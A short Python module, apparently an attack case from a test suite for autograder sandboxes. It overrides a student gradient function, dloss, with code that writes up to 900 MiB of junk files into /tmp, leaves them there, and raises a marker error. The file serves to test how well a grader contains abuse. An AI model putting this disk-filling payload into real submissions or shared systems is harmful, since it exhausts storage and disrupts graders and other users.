"""Write up to 900 MiB into /tmp (15 MiB files) and leave it there."""
MODULE = "ex1_manual_gradients"
CLASS = "disk"
MODES = ("grade", "batch", "gradescope", "nbgrader")
FILL = 900 << 20


def _atk_dloss(w, x, y, _orig=dloss):
    chunk = b"\0" * (1 << 20)
    written = 0
    try:
        for i in range(60):
            with open(f"/tmp/{_ATTACK['marker']}-fill-{i}", "wb") as handle:
                for _ in range(15):
                    handle.write(chunk)
                    written += len(chunk)
                    if written >= 900 << 20:
                        raise StopIteration
    except (OSError, StopIteration):
        pass
    raise RuntimeError(f"{_ATTACK['marker']}:FILLED:{written}:")


dloss = _atk_dloss
